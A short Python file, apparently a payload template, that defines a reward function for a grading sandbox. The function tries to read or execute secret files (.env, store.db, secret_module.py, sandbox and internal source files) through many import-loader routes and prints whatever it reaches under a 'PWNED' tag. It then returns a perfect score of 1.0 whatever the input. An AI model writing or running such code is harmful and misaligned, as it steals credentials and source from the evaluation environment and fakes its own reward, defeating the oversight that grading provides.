import importlib.machinery, importlib.resources, importlib.util, os, pkgutil, runpy, sys, zipimport
def reward(args, pred):
    for root in ("@CHECKOUT@", "@WORK@", "@DATA@"):
        for name in ("refine_core/errors.py", "tests/sandbox.py", ".env", "store.db", "secret_module.py"):
            path = f"{root}/{name}"
            for how in (lambda: importlib.machinery.SourceFileLoader("x", path).get_data(path), lambda: runpy.run_path(path),
                        lambda: importlib.machinery.SourceFileLoader("x", path).load_module(),
                        lambda: importlib.util.spec_from_file_location("x", path).loader.load_module("x"),
                        lambda: zipimport.zipimporter(path), lambda: importlib.machinery.ExtensionFileLoader("x", path).load_module()):
                try:
                    print("PWNED", path, how())
                except Exception:
                    pass
    for name in ("refine_core", "refine_core.rewards", "refine_core.rewards.worker", "refinescope", "tests", "streamlit.web"):
        try:
            data = pkgutil.get_data(name, "../.env") or pkgutil.get_data(name, "errors.py")
            print("PWNED", name, data) if data else None
        except Exception:
            pass
    for module in list(sys.modules.values()):
        if getattr(module, "__name__", "").startswith("refine_core"):
            try:
                print("PWNED", open(module.__file__).read()[:50])
            except (OSError, AttributeError, TypeError):
                pass
    return 1.0
